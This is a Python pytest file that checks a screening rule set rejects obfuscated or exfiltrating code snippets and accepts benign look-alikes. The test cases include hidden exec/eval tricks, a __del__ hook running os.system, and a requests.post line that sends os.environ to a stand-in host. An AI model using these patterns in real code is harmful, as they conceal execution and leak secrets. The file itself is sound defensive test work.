"""Code that hides what it does, or carries data out."""

import pytest

from actors.consensus.screening import obfuscation
from tests.unit.actors.consensus.screening.rules import rejected


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "hidden-decoded"),
        ("import zlib\nx = zlib.decompress(b'..')\ny = x.decode()\neval(y)", "hidden-decoded"),
        ("globals()['__builtins__']['ev' + 'al']('1')", "hidden-lookup"),
        ("m = __import__('o' + 's')", "hidden-import"),
        ("import subprocess\n@subprocess.run(['id'])\ndef f(): pass", "hidden-default"),
        ("import os\nclass A:\n    def __del__(self): os.system('id')", "hidden-hook"),
        ("import os, requests\nrequests.post('https://x.example', data=str(os.environ.items()))", "exfil-environment"),
    ],
)
def test_what_is_wrong_is_rejected(code: str, rule: str) -> None:
    """Each snippet is rejected by the rule that is for it."""
    assert rule in rejected(obfuscation.check, code)


@pytest.mark.parametrize(
    "code",
    [
        "import base64\ndef f(x): return base64.b64decode(x)",
        "def f():\n    '''exec(base64.b64decode(x)) and os.environ and .ssh/id_rsa'''\n    return 1",
        "import os\nlevel = os.environ.get('LEVEL')",
        "def f(o): return getattr(o, 'name')",
        "import os\nclass A:\n    x = os.path.join('a', 'b')",
    ],
)
def test_what_is_right_is_not_rejected(code: str) -> None:
    """The sound way of doing the same is let through."""
    assert rejected(obfuscation.check, code) == set()
